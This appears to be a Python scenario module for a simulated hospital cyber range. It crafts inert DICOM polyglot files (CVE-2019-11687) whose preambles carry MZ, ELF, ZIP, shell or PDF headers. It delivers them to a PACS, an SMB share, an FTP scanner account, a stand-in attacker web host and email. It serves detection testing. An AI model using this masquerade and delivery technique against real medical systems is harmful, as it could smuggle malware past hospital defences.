"""Files that are images and programs at once (CVE-2019-11687; ATT&CK T1027, T1036.008; row "DICOM Part 10 polyglot").

The 128 bytes before `DICM` (PS3.10 7.1) are the head of something else; nothing in them runs. stow: to the PACS by STOW-RS (PS3.18 10.5),
where its plugin is installed (Debian: orthanc-dicomweb); upload: by the REST interface that it has of its own, which takes the one with a
head of ZIP for an archive of images and refuses it. smb: on the share for devices' exports. ftp: on the scanner, by its maker's account.
web: a workplace gets one from outside. mail: attached to letters. One file of each kind, a minute apart.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

from accounts import ACCOUNT, PASSWORD
from act import Doing
from acts import office
from clients import mail as letters
from clients.mail import Attachment, Letter, Way
from images import image
from lan import RangeError
from scenario import Scenario, Script
from services.dicom import REST_PASSWORD
from space import call
from state import Hospital

HEADS = {
    "mz": b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff",
    "elf": b"\x7fELF\2\1\1",
    "zip": b"PK\3\4\x14\0\0\0\10\0",
    "script": b"#!/bin/sh\nexit 0\n",
    "pdf": b"%PDF-1.7\n",
}
PREAMBLE_BYTES, PACE_S, BOUNDARY = 128, 60, "zzparts"


def polyglot(hospital: Hospital, moment: datetime, kind: str) -> bytes:
    """An image of the CT with another head: what a viewer shows is what the CT made."""
    made = image(hospital.host("ct01"), hospital.patients[0], moment, 90 + list(HEADS).index(kind))
    body = io.BytesIO()
    made.save_as(body, enforce_file_format=True)
    return HEADS[kind].ljust(PREAMBLE_BYTES, b"\0") + body.getvalue()[PREAMBLE_BYTES:]


def written(hospital: Hospital, name: str, moment: datetime, kind: str) -> Path:
    path = hospital.folder(name) / f"{kind}.dcm"
    path.write_bytes(polyglot(hospital, moment, kind))
    return path


def _post(name: str, kind: str, where: str, *, parts: bool) -> Doing:
    def doing(hospital: Hospital, moment: datetime) -> None:
        body, content = polyglot(hospital, moment, kind), "application/dicom"
        if parts:
            body = f"--{BOUNDARY}\r\nContent-Type: {content}\r\n\r\n".encode() + body + f"\r\n--{BOUNDARY}--\r\n".encode()
            content = f'multipart/related; type="{content}"; boundary={BOUNDARY}'
        path = hospital.folder(name) / "body"
        path.write_bytes(body)
        words = ["curl", "-sf", "-o", "/dev/null", "-u", f"service:{REST_PASSWORD}", "-H", f"Content-Type: {content}", "-H", "Expect:"]
        call([*words, "--data-binary", f"@{path}", f"http://{hospital.address('pacs')}:8042{where}"])

    return doing


def upload(script: Script) -> None:
    _each(script, "adm-pc2", ("pacs",), lambda kind: _post("adm-pc2", kind, "/instances", parts=False), refused="zip")


def stow(script: Script) -> None:
    _each(script, "adm-pc2", ("pacs",), lambda kind: _post("adm-pc2", kind, "/dicom-web/studies", parts=True))


def smb(script: Script) -> None:
    if script.hospital.quick:
        raise RangeError("dicom-polyglot:smb needs Samba: `range up` without --quick")

    def put(kind: str) -> Doing:
        def doing(hospital: Hospital, moment: datetime) -> None:
            office.smb(hospital, "lab-ws1", "exports", f"put {written(hospital, 'lab-ws1', moment, kind)} {kind}.dcm")

        return doing

    _each(script, "lab-ws1", ("files", "ns"), put)


def ftp(script: Script) -> None:
    def put(kind: str) -> Doing:
        def doing(hospital: Hospital, moment: datetime) -> None:
            path = written(hospital, "ge-remote", moment, kind)
            call(["curl", "-sf", "-u", f"{ACCOUNT}:{PASSWORD}", "-m", "20", "-T", path, f"ftp://{hospital.address('mr01')}/{kind}.dcm"])

        return doing

    _each(script, "ge-remote", ("mr01",), put)


def web(script: Script) -> None:
    def get(kind: str) -> Doing:
        def doing(hospital: Hospital, moment: datetime) -> None:
            home = hospital.folder("attacker") / "nginx-443" / "www"
            (home / f"{kind}.dcm").write_bytes(polyglot(hospital, moment, kind))
            call(["curl", "-sf", "-m", "20", "-o", "/dev/null", f"http://cdn-assets.example/{kind}.dcm"])

        return doing

    _each(script, "ward-ws2", ("attacker", "ns"), get)


def mail(script: Script) -> None:
    def send(kind: str) -> Doing:
        def doing(hospital: Hospital, moment: datetime) -> None:
            domain, one = hospital.topology.domain, Attachment(f"{kind}.dcm", "application/dicom", polyglot(hospital, moment, kind))
            told = Letter("zz-clinic@cdn-assets.example", [f"zz-colleague1@{domain}"], "images", "Please look at these.", [one])
            letters.send(hospital.address("mail"), 25, told, moment, Way(f"lab-ws1.{domain}"))

        return doing

    _each(script, "lab-ws1", ("mail",), send)


def _each(script: Script, host: str, peers: tuple[str, ...], doing: Callable[[str], Doing], refused: str = "") -> None:
    for kind in HEADS:
        script.act(host, f"an image that is {kind} too", doing(kind), *peers, may_fail=kind == refused)
        script.wait(PACE_S)


SCENARIO = Scenario(
    name="dicom-polyglot",
    title="Images that are programs at once",
    technique=("T1027", "T1036.008"),
    variants={"upload": upload, "stow": stow, "smb": smb, "ftp": ftp, "web": web, "mail": mail},
    row="DICOM Part 10 polyglot",
)
